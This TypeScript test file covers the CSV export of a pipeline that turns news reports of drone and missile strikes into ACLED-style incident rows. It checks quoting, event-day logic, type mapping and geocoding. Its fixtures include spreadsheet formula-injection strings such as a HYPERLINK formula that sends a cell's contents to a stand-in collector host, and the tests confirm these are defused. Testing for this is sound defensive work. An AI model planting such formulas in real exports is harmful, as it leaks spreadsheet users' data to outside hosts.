import { test } from 'node:test';
import assert from 'node:assert/strict';
import { parse } from 'csv-parse/sync';
import { createReportPipeline } from '../analyze/pipeline.js';
import { prepareAnalysis } from '../analyze/prepare.js';
import type { Incident } from '../analyze/incidents/incident-types.js';
import { reportFromString } from '../ingest/build-report.js';
import type { CleanDocument } from '../model/document.js';
import { runOne } from '../run/report-runner.js';
import { acledEventType, csvRecord, eventDay, incidentRows, INCIDENT_CSV_COLUMNS, writeIncidentsCsv } from './csv-export.js';
import type { ExportLookup } from './export-selection.js';
import { stringSink as collector } from './export-sink.js';

/** An invented report about an invented strike on a real town the gazetteer knows, with hostile and awkward text. */
const REPORT = `Drone hits grain warehouse in Tampere, "several" hurt

Lakeside Courier

A drone struck a grain warehouse on the eastern edge of Tampere on March 3, 2026, killing one worker and injuring two others, the regional rescue service said. Police blamed the Northern Brigade, an armed group, for the attack.

=HYPERLINK("http://collector.invalid/?"&A1,"click") was written on a wall nearby, witnesses said, and the rescue service said three drones had been seen over the city, "one, then two more".`;

async function analysed(text: string): Promise<CleanDocument> {
  await prepareAnalysis();
  const raw = reportFromString('text', text, {
    source: { kind: 'file', location: 'tampere-warehouse.txt', fetchedAt: '2026-03-03T18:00:00.000Z' },
    given: { published: '2026-03-03T17:40:00+02:00', outlet: 'Lakeside Courier' },
    input: 'tampere-warehouse.txt',
  });
  const r = runOne(createReportPipeline(), raw);
  if (!r.ok) throw new Error(r.error.oneLine());
  return r.doc;
}

/** A lookup for reports that are in no story (a store with the story layer not yet run). */
const noStories = { storiesOf: async () => [] } as unknown as ExportLookup;

test('fields are quoted as RFC 4180 says, and a CSV parser reads back exactly what was written', () => {
  const awkward = ['plain', 'with, comma', 'with "quotes"', 'two\r\nlines', 'lone\nLF', '', ' spaced ', 'Kyiv — Київ 🛩'];
  const text = csvRecord(awkward) + csvRecord(['a', 'b', 'c', 'd', 'e', 'f', 'g', 'h']);
  assert.ok(text.endsWith('\r\n'));
  assert.match(text, /^plain,"with, comma","with ""quotes""","two\r\nlines","lone\nLF",, spaced ,Kyiv — Київ 🛩\r\n/);
  const rows = parse(text, { relax_column_count: false }) as string[][];
  assert.deepEqual(rows, [awkward, ['a', 'b', 'c', 'd', 'e', 'f', 'g', 'h']]);
});

test('the event day is the local day holding the middle of the interval the words give', () => {
  assert.equal(eventDay({ start: '2026-03-13T21:00', end: '2026-03-14T06:00' }), '2026-03-14', 'overnight is the second day');
  assert.equal(eventDay({ start: '2026-03-13T18:00', end: '2026-03-14T00:00' }), '2026-03-13', 'an evening is that day');
  assert.equal(eventDay({ start: '2026-03-14', end: '2026-03-15' }), '2026-03-14', 'a whole day (half-open)');
  assert.equal(eventDay({ start: '2026-03-14T05:20+03:00', end: '2026-03-14T05:21+03:00' }), '2026-03-14', 'the stated zone’s local day, not UTC');
  assert.equal(eventDay({ start: '2026-03-09', end: '2026-03-16' }), '2026-03-12', 'a week: its middle day');
  assert.equal(eventDay(undefined), '');
});

test('our event types map to ACLED’s: strikes are remote violence, interceptions without a hit are disrupted weapons use', () => {
  assert.deepEqual(acledEventType({ eventType: 'drone-strike', subEventType: 'intercepted, with damage' }), { eventType: 'Explosions/Remote violence', subEventType: 'Air/drone strike' });
  assert.deepEqual(acledEventType({ eventType: 'drone-strike', subEventType: 'intercepted' }), { eventType: 'Strategic developments', subEventType: 'Disrupted weapons use' });
  assert.deepEqual(acledEventType({ eventType: 'missile-strike', subEventType: 'hit' }), { eventType: 'Explosions/Remote violence', subEventType: 'Shelling/artillery/missile attack' });
  assert.deepEqual(acledEventType({ eventType: 'shelling' }), { eventType: 'Explosions/Remote violence', subEventType: 'Shelling/artillery/missile attack' });
  assert.deepEqual(acledEventType({ eventType: 'interception' }), { eventType: 'Strategic developments', subEventType: 'Disrupted weapons use' });
  assert.deepEqual(acledEventType({ eventType: 'air-alert' }), { eventType: 'Strategic developments', subEventType: 'Other' });
  assert.deepEqual(acledEventType({ eventType: 'other' }), { eventType: '', subEventType: '' });
});

test('a report read by the real pipeline becomes rows that parse back to its incidents, with the place geocoded', async () => {
  const doc = await analysed(REPORT);
  const incidents = doc.data.incidents as Incident[];
  assert.ok(incidents.length >= 1, 'the reading layer finds the strike');
  const sink = collector();
  const n = await writeIncidentsCsv([doc], noStories, sink);
  assert.equal(n, incidents.length);
  const records = parse(sink.text(), { columns: true }) as Array<Record<string, string>>;
  assert.deepEqual(Object.keys(records[0]!), [...INCIDENT_CSV_COLUMNS]);
  assert.equal(records.length, incidents.length);
  assert.deepEqual(records, incidentRows(doc, []).map((r) => ({ ...r })));

  const tampere = records.find((r) => r.location === 'Tampere');
  assert.ok(tampere, `a row for Tampere (rows: ${records.map((r) => r.location).join(', ')})`);
  assert.equal(tampere.event_date, '2026-03-03');
  assert.equal(tampere.time_precision, '1');
  assert.equal(tampere.event_type, 'Explosions/Remote violence');
  assert.equal(tampere.sub_event_type, 'Air/drone strike');
  assert.ok(Math.abs(Number(tampere.latitude) - 61.5) < 0.1 && Math.abs(Number(tampere.longitude) - 23.79) < 0.1, `${tampere.latitude}, ${tampere.longitude}`);
  assert.equal(tampere.fatalities, '1');
  assert.equal(tampere.source, 'Lakeside Courier');
  assert.equal(tampere.report_id, doc.id);
  assert.equal(tampere.story_id, '', 'no story layer yet');
  // Evidence spans point at the incident's sentences in the cleaned text.
  const spans = tampere.evidence!.split(';').map((s) => s.split('-').map(Number) as [number, number]);
  const inc = incidents.find((i) => i.location.name === 'Tampere')!;
  assert.deepEqual(spans, inc.evidence.map(([s, e]) => [s, e]));
  assert.ok(spans.some(([s, e]) => doc.text.slice(s, e).includes('killing one worker')));
  // No text cell starts like a spreadsheet formula.
  for (const r of records) for (const c of ['actor1', 'actor2', 'location', 'source', 'notes'] as const) assert.doesNotMatch(r[c]!, /^[=+\-@]/, `${c}: ${r[c]}`);
});

test('a text cell that a spreadsheet would run as a formula is defused, numbers are left alone', async () => {
  const doc = await analysed(REPORT);
  const incidents = structuredClone(doc.data.incidents as Incident[]);
  // As if a hostile page had made the reader take a formula for a place and an outlet.
  incidents[0]!.location = { ...incidents[0]!.location, name: '=HYPERLINK("http://collector.invalid","x")', geo: { name: 'x', country: 'FI', lat: -18.1416, lon: -171.7667, precision: 1 } };
  const hostile: CleanDocument = { ...doc, meta: { ...doc.meta, outlet: { value: '@SUM(1+1)', from: 'given' } }, data: { ...doc.data, incidents } };
  const [row] = incidentRows(hostile, []);
  assert.ok(row);
  assert.equal(row.location, `'=HYPERLINK("http://collector.invalid","x")`);
  assert.equal(row.source, "'@SUM(1+1)");
  assert.equal(row.latitude, '-18.1416', 'coordinates are numbers, never defused');
  assert.equal(row.longitude, '-171.7667');
  const [parsed] = parse(csvRecord(INCIDENT_CSV_COLUMNS.map((c) => row[c])), { columns: [...INCIDENT_CSV_COLUMNS] }) as Array<Record<string, string>>;
  assert.equal(parsed!.location, row.location);
});
